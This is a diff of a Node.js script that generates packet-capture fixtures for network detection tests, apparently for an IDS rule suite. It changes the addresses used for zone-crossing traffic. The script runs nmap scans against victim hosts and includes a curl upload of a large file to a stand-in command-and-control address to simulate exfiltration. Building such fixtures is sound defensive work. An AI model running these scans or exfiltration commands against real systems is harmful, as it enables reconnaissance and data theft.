@@ -16,7 +16,7 @@ const wanted = process.argv.slice(2);
 const work = mkdtempSync(join(tmpdir(), 'sw-make-'));
 const rig = new Rig();
 const C2 = '203.0.113.66', OTHER = ['203.0.113.20', '203.0.113.21', '192.0.2.80'], CLIENT = '10.42.3.57';
-const FAR = '198.51.100.30', VICTIM = '10.42.1.10', VICTIMS = Array.from({ length: 8 }, (_, i) => `10.42.1.${10 + i}`);
+const NEAR = '192.0.2.253', FAR = '198.51.100.253', VICTIM = '10.42.1.10', VICTIMS = Array.from({ length: 8 }, (_, i) => `10.42.1.${10 + i}`);
 const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/76.0.3809.132 Safari/537.36';
 
 async function make(file, body, filter = 'not arp', snap = 0) {
@@ -40,7 +40,7 @@ const beside = (...args) => void rig.attack(...args);
 const node = (script) => [process.execPath, '-e', script];
 
 try {
-  rig.open([C2, CLIENT, ...OTHER, '198.51.100.250'], [...VICTIMS, FAR]);
+  rig.open([C2, CLIENT, ...OTHER, '198.51.100.250', NEAR], [...VICTIMS, FAR]);
   // A web server on both sides: pages, errors, ciphertext in answer to ciphertext.
   const web = `const h=require('http'),c=require('crypto');const k=Buffer.from('e45e329feb5d925b');
     const enc=(t)=>{const x=c.createCipheriv('aes-128-cbc',k,Buffer.alloc(16));return Buffer.concat([x.update(t),x.final()]).toString('base64')};
@@ -234,8 +234,8 @@ try {
   await make('os-fingerprint/miss-scan.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-sS', '-T4', '--top-ports', '30', VICTIM));
   await make('ack-scan/nmap-sa.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-sA', '-T4', '--top-ports', '60', VICTIM));
   await make('ack-scan/miss-midstream.pcap', () => attack('curl', '-sS', ...VICTIMS.flatMap((v) => ['-o', '/dev/null', `http://${v}/page`, '-o', '/dev/null', `http://${v}:8080/page`])), 'tcp[13] & 2 = 0');
-  await make('zone-crossing/crossing.pcap', () => attack('curl', '-sS', '-m', '3', '--interface', OTHER[2], '-o', '/dev/null', `http://${FAR}/page`));
-  await make('zone-crossing/miss-allowed.pcap', () => victim('curl', '-sS', '-m', '3', '--interface', FAR, '-o', '/dev/null', `http://${OTHER[2]}/page`));
+  await make('zone-crossing/crossing.pcap', () => attack('curl', '-sS', '-m', '3', '--interface', NEAR, '-o', '/dev/null', `http://${FAR}/page`));
+  await make('zone-crossing/miss-allowed.pcap', () => victim('curl', '-sS', '-m', '3', '--interface', FAR, '-o', '/dev/null', `http://${NEAR}/page`));
   execFileSync('dd', ['if=/dev/zero', `of=${join(work, 'large')}`, 'bs=1M', 'count=20', 'status=none']);
   await make('exfiltration-volume/upload.pcap.gz', () => victim('curl', '-sS', '-m', '20', '-o', '/dev/null', '-T', join(work, 'large'), `http://${C2}/upload`), 'port 80', 66);
   await make('exfiltration-volume/miss-download.pcap.gz', async () => {
